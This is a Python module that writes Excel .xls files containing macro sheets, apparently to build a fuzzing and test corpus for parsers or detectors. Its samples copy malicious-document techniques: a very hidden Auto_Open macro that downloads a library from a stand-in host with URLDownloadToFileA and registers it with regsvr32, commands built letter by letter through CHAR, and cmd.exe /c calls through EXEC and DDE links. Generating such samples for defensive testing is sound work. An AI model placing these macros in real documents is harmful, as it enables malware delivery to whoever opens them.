"""workbooks.py - .xls files with macro sheets and what goes with them.

    workbooks.xls(sheets=[...], names=[...], links=[...], strings=[...])

Written from [MS-XLS]; inert: formulas that nothing ever computes. Records are
those that readers need, nothing of what a program would write around them.

    python3 workbooks.py FOLDER      the fuzzer's corpus, which tests read, too
"""

import pathlib
import struct
import sys

import ole

VISIBLE, HIDDEN, VERY_HIDDEN = 0, 1, 2
SHEET, MACRO = 0, 1

# 2.5.198.17 (Ftab); 2.5.198.4 (Cetab) with its high bit.
FUNCTIONS = {
    "GOTO": 0x35, "HALT": 0x36, "RETURN": 0x37, "SET.NAME": 0x58,
    "SET.VALUE": 0x6C, "EXEC": 0x6E, "CHAR": 0x6F, "FOPEN": 0x84,
    "FWRITELN": 0x89, "REGISTER": 0x95, "CALL": 0x96, "GET.CELL": 0xB9,
    "GET.WORKSPACE": 0xBA, "FILE.DELETE": 0x8006, "RUN": 0x8011,
    "FORMULA": 0x8060, "FORMULA.FILL": 0x8061, "ON.TIME": 0x8094,
}


def record(kind, data=b""):
    assert len(data) <= 8224, kind
    return struct.pack("<HH", kind, len(data)) + data


def bof(kind, version=0x0600):
    return record(0x0809, struct.pack("<HHHHII", version, kind, 0x1234,
                                      0x07CD, 0, 6))


EOF = record(0x000A)


def letters(text):
    """Flags and letters, narrow where that is enough."""
    try:
        return b"\0" + text.encode("latin-1")
    except UnicodeEncodeError:
        return b"\1" + text.encode("utf-16-le")


def count(text):
    """Letters as Excel counts them."""
    return len(text.encode("utf-16-le")) // 2


# --- tokens of a formula (2.5.198), in the order of reverse Polish ---

def string(text):
    return b"\x17" + bytes([count(text)]) + letters(text)


def integer(value):
    return b"\x1e" + struct.pack("<H", value)


def join():
    return b"\x08"


def call(name, arguments=0):
    """A function of any number of arguments (PtgFuncVar)."""
    return b"\x42" + struct.pack("<BH", arguments, FUNCTIONS[name])


def cell(row, column):
    return b"\x44" + struct.pack("<HH", row, column)


def formula(tokens, row=0, column=0):
    """A cell whose value is computed (2.4.127)."""
    return record(0x0006, struct.pack(
        "<HHHdHIH", row, column, 15, 0.0, 0, 0, len(tokens)) + tokens)


def label(text, row=0, column=0):
    return record(0x0204, struct.pack(
        "<HHHH", row, column, 15, count(text)) + letters(text))


# --- records of the globals ---

def name(text, tokens=b"", builtin=None, hidden=False):
    """A defined name (2.4.150); a built-in one is a number."""
    flags = (1 if hidden else 0) | (0x20 if builtin is not None else 0)
    text = chr(builtin) if builtin is not None else text
    return record(0x0018, struct.pack(
        "<HBBHHHBBBB", flags, 0, count(text), len(tokens), 0, 0, 0, 0, 0, 0)
        + letters(text) + tokens)


def supbook(path, sheets=0):
    """A link (2.4.271)."""
    return record(0x01AE, struct.pack("<HH", sheets, count(path))
                  + letters(path))


def externname(text, flags=0):
    return record(0x0023, struct.pack("<HHHB", flags, 0, 0, count(text))
                  + letters(text))


def dde(program, topic, item="A1"):
    return supbook(f"{program}\x03{topic}") + externname(item)


def sst(strings):
    """The strings of cells (2.4.265), in Continue records where they do not
    fit; one that is cut tells its letters' width again."""
    records, piece = [], struct.pack("<II", len(strings), len(strings))
    for text in strings:
        body = letters(text)
        head, body, wide = (struct.pack("<H", count(text)) + body[:1],
                            body[1:], body[0])
        if len(piece) + len(head) > 8224:
            records.append(piece)
            piece = b""
        piece += head
        while len(piece) + len(body) > 8224:
            room = (8224 - len(piece)) // (2 if wide else 1) \
                * (2 if wide else 1)
            records.append(piece + body[:room])
            body = body[room:]
            piece = bytes([wide])
        piece += body
    records.append(piece)
    return record(0x00FC, records[0]) + b"".join(
        record(0x003C, more) for more in records[1:])


def hyperlink(url):
    """2.4.140 with a URL moniker ([MS-OSHARED] 2.3.7.1)."""
    wide = url.encode("utf-16-le") + b"\0\0"
    moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
    clsid = bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b")
    return record(0x01B8, bytes(8) + clsid + struct.pack("<II", 2, 3)
                  + moniker + struct.pack("<I", len(wide)) + wide)


def picture(formula_of=None):
    """An Obj record (2.4.181) of a picture, or of an object of a class."""
    data = struct.pack("<HHHHH", 0x15, 18, 8, 1, 0x6011) + bytes(12)
    data += struct.pack("<HHH", 0x08, 2, 0)
    if formula_of is not None:
        body = formula_of.encode()
        data += struct.pack("<HH", 0x09, len(body)) + body
    return record(0x005D, data + struct.pack("<HH", 0, 0))


def sheet(title="Sheet1", kind=SHEET, state=VISIBLE, records=()):
    return {"title": title, "kind": kind, "state": state,
            "records": list(records)}


def stream(sheets=None, names=(), links=(), strings=(), between=b"",
           filepass=b""):
    """The stream Workbook; `between` lies before each sheet's substream."""
    sheets = sheets or [sheet()]
    before = bof(5) + (record(0x002F, filepass) if filepass else b"")
    after = b"".join(links) + b"".join(names)
    if strings:
        after += sst(list(strings))
    after += EOF

    def bound(one, place):
        return record(0x0085, struct.pack("<IBB", place, one["state"],
                                          one["kind"])
                      + bytes([count(one["title"])]) + letters(one["title"]))

    place = len(before) + len(after) + sum(
        len(bound(one, 0)) for one in sheets)
    index, bodies = b"", b""
    for one in sheets:
        body = (bof(0x40 if one["kind"] == MACRO else 0x10)
                + b"".join(one["records"]) + EOF)
        place += len(between)
        index += bound(one, place)
        bodies += between + body
        place += len(body)
    return before + index + after + bodies


def xls(**options):
    return ole.write({"Workbook": stream(**options)})


# --- whole samples, for the fuzzer and for training ---

def downloader(url="http://a.example/b.ocx", state=VERY_HIDDEN):
    """A hidden macro sheet that fetches and starts a library."""
    return {
        "sheets": [
            sheet("Sheet1", records=[picture()]),
            sheet("Macro1", MACRO, state, [
                formula(string("urlmon") + string("URLDownloadToFileA")
                        + string("JJCCBB") + integer(0) + string(url)
                        + string("..\\b.ocx") + integer(0) + integer(0)
                        + call("CALL", 8)),
                formula(string("regsvr32 ") + string("..\\b.ocx") + join()
                        + call("EXEC", 1), row=1),
                formula(call("HALT"), row=2),
            ])],
        "names": [name("", cell(0, 0), builtin=1, hidden=True)],
        "strings": ["Enable Editing, then Enable Content"],
    }


def pieces(text="regsvr32", state=HIDDEN):
    """A macro that builds its formulas letter by letter."""
    spelled = b"".join(
        integer(ord(c)) + call("CHAR", 1) + (join() if i else b"")
        for i, c in enumerate(text))
    return {
        "sheets": [
            sheet("シート"),
            sheet("Macro1", MACRO, state, [
                formula(integer(1) + call("GET.WORKSPACE", 1)),
                formula(spelled + cell(9, 0) + call("FORMULA.FILL", 2), 1),
                formula(cell(9, 0) + call("GOTO", 1), 2)])],
        "names": [name("Auto_Open", cell(0, 0))],
        "strings": ["コンテンツの有効化"],
    }


def calculations():
    """A benign macro of the nineties: asks, computes, writes cells."""
    return {
        "sheets": [
            sheet("Sales", records=[label("January"), label("February", 1)]),
            sheet("Macro1", MACRO, VISIBLE, [
                formula(integer(1) + cell(3, 3) + call("FORMULA", 2)),
                formula(call("RETURN"), row=1)])],
        "names": [name("Totals", cell(0, 0))],
        "strings": ["Total", "Sum"],
    }


def five():
    """A book of Excel 5: plain strings, other tokens. Its sheets say 97, as
    later programs wrote it."""
    def old(text):
        return bytes([len(text)]) + text.encode("latin-1")

    macro = (record(0x0809, struct.pack("<HHI", 0x0600, 0x40, 0)) + formula(
        b"\x17" + old("cmd.exe /c") + b"\x44" + bytes(3) + call("EXEC", 1)) + EOF)
    first = record(0x0809, struct.pack("<HHI", 0x0500, 5, 0))
    links = (record(0x0017, old("\x02")) + record(0x0017, old("cmd\x03/c"))
             + record(0x0017, old("\x01\x02folder\x03x.xls")))
    names = record(0x0018, struct.pack("<HBBHHHBBBB", 1, 0, 9, 18, 0, 0, 0, 0,
                                       0, 0) + b"Auto_Open"
                   + b"\x3a\xff\xff" + bytes(15))
    texts = record(0x0204, struct.pack("<HHHH", 0, 0, 15, 4) + b"Text")
    place = len(first + links + names + texts + EOF) + 4 + 13
    return (first + links + names + texts
            + record(0x0085, struct.pack("<IBB", place, 0, 1) + old("Macro1"))
            + EOF + macro)


SAMPLES = {
    "five": five,
    "downloader": lambda: stream(**downloader()),
    "pieces": lambda: stream(**pieces()),
    "calculations": lambda: stream(**calculations()),
    "links": lambda: stream(
        links=[dde("cmd", "/c calc"),
               supbook("\x01\x05http://b.example/x.xls", 1),
               supbook("Word.Document.8\x03http://c.example/y.doc"),
               externname("x", 0x10)],
        sheets=[sheet(records=[hyperlink("http://d.example/"),
                               picture("Word.Document.8"), picture()])]),
    "long": lambda: stream(strings=["a" * 9000, "あ" * 5000]),
    "encrypted": lambda: stream(filepass=b"\1\0" + bytes(52)),
}


def main():
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for title, make in SAMPLES.items():
        (folder / title).write_bytes(make())
    (folder / "file.xls").write_bytes(xls(**downloader()))


if __name__ == "__main__":
    main()
